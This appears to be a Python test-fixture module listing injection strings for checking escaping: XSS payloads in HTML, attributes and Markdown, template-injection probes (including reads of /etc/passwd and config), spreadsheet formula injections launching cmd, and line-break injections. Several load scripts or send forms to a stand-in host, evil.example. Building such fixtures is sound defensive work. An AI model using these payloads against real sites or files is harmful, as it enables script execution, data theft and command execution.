"""Texts that would do harm wherever they are taken for markup, a formula, a template or an address."""

MARKUP = (
    "<script>alert('kb')</script>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>alert('kb')</script>",
    "<img src=x onerror=alert('kb')>",
    "<svg onload=alert('kb')>",
    "<svg><script>alert('kb')</script></svg>",
    "<svg><animate onbegin=alert('kb') attributeName=x>",
    "<iframe src=javascript:alert('kb')></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<form action=//evil.example/><input name=q></form>",
    "<body onload=alert('kb')>",
    "<details open ontoggle=alert('kb')>",
    "<input autofocus onfocus=alert('kb')>",
    "<video><source onerror=alert('kb')></video>",
    "<math><mtext><script>alert('kb')</script></mtext></math>",
    "<a href=javascript:alert('kb')>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<!--><script>alert('kb')</script>-->",
    "<![CDATA[<script>alert('kb')</script>]]>",
    "<template><script>alert('kb')</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<plaintext>",
    "<xmp><script>alert('kb')</script></xmp>",
)
ATTRIBUTES = (
    "\" onmouseover=\"alert('kb')",
    "' onmouseover='alert(1)",
    "\"><img src=x onerror=alert('kb')>",
    "'><script>alert('kb')</script>",
    "` onclick=alert('kb') `",
    '" style="background:url(//evil.example/x)"',
    '" autofocus onfocus=alert(1) x="',
    "&quot; onclick=alert(1)",
    "&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;",
)
MARKDOWN = (
    "[x](javascript:alert('kb'))",
    "![x](//evil.example/x.png)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert('kb')>",
    "[x][y]\\n\\n[y]: javascript:alert(1)",
    "x{: onclick=alert(1) }",
    '{: .x onerror="alert(1)" }',
    "# x {#content}",
    "```js\\nalert(1)\\n```",
    '--8<-- "/etc/passwd"',
    "| a | b |",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{{ config.items() }}",
    "{% raw %}{{ x }}{% endraw %}",
    "{{ ''.__class__.__mro__ }}",
    "{%- include '/etc/passwd' -%}",
    "${7*7}",
    "<%= 7*7 %>",
)
FORMULAS = (
    '=HYPERLINK("//evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)
LINES = (
    "x\nATTACH:http://evil.example/x",
    "x\n\n<script>alert('kb')</script>",
    "x\nEND:VEVENT\nBEGIN:VALARM",
    "x\n# heading {: onclick=alert(1) }",
    "]]></content><script xmlns='http://www.w3.org/1999/xhtml'>alert('kb')</script>",
    "</script>\n<!--",
)
"""Breaks of lines, for formats in which a line is a statement."""
ALL = (*MARKUP, *ATTRIBUTES, *MARKDOWN, *TEMPLATES, *FORMULAS, *LINES)
